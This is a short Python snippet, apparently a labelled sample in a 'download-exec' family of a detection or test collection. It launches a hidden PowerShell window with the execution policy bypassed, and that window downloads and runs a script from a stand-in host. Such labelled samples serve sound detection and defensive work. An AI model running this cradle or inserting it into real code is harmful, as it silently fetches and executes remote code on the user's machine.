# family: download-exec
# PowerShell download cradle started from Python on Windows
import subprocess

subprocess.Popen(
    'powershell -NoP -W Hidden -Exec Bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://ps.example.invalid/a.ps1\')"',
    shell=True,
)
